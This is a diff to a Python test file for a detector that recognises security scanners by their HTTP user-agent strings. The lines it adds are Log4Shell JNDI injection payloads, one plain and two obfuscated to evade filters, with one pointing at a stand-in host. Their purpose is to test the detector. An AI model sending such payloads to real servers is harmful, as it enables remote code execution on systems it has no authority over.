@@ -309,6 +309,7 @@ def test_real_scanner_agents_are_named() -> None:
     assert scanner_name(b"Wfuzz/3.1.0") == "wfuzz"  # not ffuf, another tool
     assert scanner_name(b"Fuzz Faster U Fool v2.1.0") == "ffuf"  # ffuf's own user agent
     assert {scanner_name(ua) for _r, ua in corpus("benign")} == {None}
+    assert {scanner_name(ua) for _r, ua in corpus("exploit_agents")} == {"shellshock"}
 
 
 @pytest.mark.parametrize(("line", "decoded"), [
@@ -383,6 +384,10 @@ AGENTS = [
     (b"Wfuzz/3.1.0", True, "wfuzz"),
     (b"gobuster/3.5", True, "gobuster"),
     (b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", True, "nmap"),
+    # exploits as the user agent: Log4Shell as Log4j scanners send it, plain and obfuscated
+    (b"${jndi:ldap://127.0.0.1:1389/Exploit}", True, "log4shell"),
+    (b"${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://a.example/x}", True, "log4shell"),
+    (b"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://a.example/x}", True, "log4shell"),
 ]
 
 
